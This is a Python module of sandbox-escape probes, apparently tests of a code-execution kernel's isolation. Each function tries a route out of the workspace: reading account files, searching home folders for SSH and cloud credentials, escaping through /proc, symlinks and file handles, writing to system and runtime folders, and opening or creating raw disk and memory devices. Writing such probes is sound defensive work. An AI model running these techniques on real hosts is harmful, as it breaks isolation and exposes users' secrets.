"""Attacks on the host's files, and ways out of the workspace."""

import contextlib
import ctypes
import os
import stat

from actors.kernels.probes.inside import Target, system_call
from actors.kernels.probes.probe import Family, attack


@attack(Family.FILES, control=True)
def read_the_accounts(target: Target) -> str:
    """Reads /etc/passwd and its like; the sandbox has its own, with two accounts."""
    with open("/etc/passwd") as file:
        names = [line.partition(":")[0] for line in file]
    others = [name for name in os.listdir("/etc") if name in ("shadow", "machine-id", "ssl")]
    return ", ".join([name for name in names if name not in ("root", "agent")] + others)


@attack(Family.FILES, control=True)
def list_homes_and_service_data(target: Target) -> str:
    """Lists /root, /home, /var/lib, /srv, /mnt, /run and the repository."""
    found = []
    for folder in ("/root", "/home", "/var/lib", "/srv", "/mnt", "/run", target.repository):
        with contextlib.suppress(OSError):
            found += [f"{folder}/{name}" for name in os.listdir(folder) if name != "jupyter"]
    return ", ".join(found[:5])


@attack(Family.FILES)
def read_ssh_keys(target: Target) -> str:
    """Looks for keys and tokens where people keep them."""
    found = []
    for home in ("/root", "/home/user", "/home/ubuntu", os.path.expanduser("~")):
        for name in (".ssh", ".aws", ".netrc", ".config/gcloud", ".kube", ".huggingface"):
            found += [path for path in [f"{home}/{name}"] if os.path.exists(path)]
    return ", ".join(found)


@attack(Family.FILES, control=True)
def read_a_secret_file_by_its_path(target: Target) -> str:
    """Opens a file of the actor's user whose full path is known."""
    with open(target.file) as file:
        return file.read()


@attack(Family.FILES, control=True)
def read_through_the_root_of_a_process(target: Target) -> str:
    """Goes by /proc/PID/root and /proc/PID/cwd of every process in sight."""
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for way in ("root", "cwd/../../../..", "task/" + pid + "/root"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{way}{target.file}") as file:
                return file.read()
    return ""


@attack(Family.FILES, control=True)
def follow_symbolic_links_out(target: Target) -> str:
    """Links out of the workspace, absolutely, relatively and by way of /proc."""
    ways = (target.file, "../../../../.." + target.file, "/proc/self/root" + target.file)
    for way in ways:
        link = f"/tmp/link-{target.token}"
        os.symlink(way, link)
        try:
            with contextlib.suppress(OSError), open(link) as file:
                return file.read()
        finally:
            os.remove(link)
    return ""


@attack(Family.FILES, control=True)
def open_a_file_by_its_handle(target: Target) -> str:
    """Opens / by a file handle, which ignores mounts and permissions on the way."""
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(140), 144)
    mount = ctypes.create_string_buffer(8)
    system_call("name_to_handle_at", -100, b"/", handle, mount, 0)
    root = os.open("/", os.O_RDONLY)
    opened = system_call("open_by_handle_at", root, handle, os.O_RDONLY)
    return ", ".join(os.listdir(opened))


@attack(Family.FILES, control=True)
def use_inherited_descriptors(target: Target) -> str:
    """Looks for open files and folders of the host among the descriptors of every process."""
    found = []
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        with contextlib.suppress(OSError):
            for number in os.listdir(f"/proc/{pid}/fd"):
                link = os.readlink(f"/proc/{pid}/fd/{number}")
                inside = ("/dev/", "/proc/", "/tmp/", "/workspace", "/memfd:", "/usr/", "/opt/")
                if link.startswith("/") and not link.startswith(inside):
                    found.append(link)
    return ", ".join(sorted(set(found))[:5])


@attack(Family.FILES)
def write_outside_the_workspace(target: Target) -> str:
    """Creates a file wherever a folder is."""
    written = []
    for folder in (
        "/",
        "/usr",
        "/usr/lib",
        "/opt",
        "/opt/rt",
        "/opt/lzero",
        "/dev",
        "/run",
        "/sys",
    ):
        path = f"{folder.rstrip('/')}/{target.token}"
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
            os.remove(path)
            written.append(folder)
    return ", ".join(written)


@attack(Family.FILES)
def change_the_kernels_own_program(target: Target) -> str:
    """Opens files of the runtime and of the kernel's sources for writing."""
    changed = []
    for top in ("/opt/rt/bin", "/opt/lzero"):
        for folder, _, names in os.walk(top):
            for name in names:
                with contextlib.suppress(OSError):
                    os.close(os.open(f"{folder}/{name}", os.O_WRONLY))
                    changed.append(name)
    return ", ".join(changed)


@attack(Family.FILES, control=True)
def open_disks_and_memory_devices(target: Target) -> str:
    """Opens disks, physical memory, KVM and the like."""
    opened = []
    for name in os.listdir("/dev"):
        if name.startswith(
            ("vd", "sd", "nvme", "dm-", "mem", "kmem", "kvm", "fuse", "vsock", "nbd")
        ):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
                opened.append(name)
    return ", ".join(opened)


@attack(Family.FILES)
def make_a_disk_device(target: Target) -> str:
    """Makes a block device node for the first disks, and opens it."""
    made = []
    for major, minor in ((254, 0), (253, 0), (8, 0), (259, 0), (1, 1)):
        path = f"/tmp/disk-{target.token}"
        with contextlib.suppress(OSError):
            os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(major, minor))
            made.append(f"node {major}:{minor}")
            os.close(os.open(path, os.O_RDONLY))
            made.append(f"device {major}:{minor}")
        with contextlib.suppress(OSError):
            os.remove(path)
    return ", ".join(made)
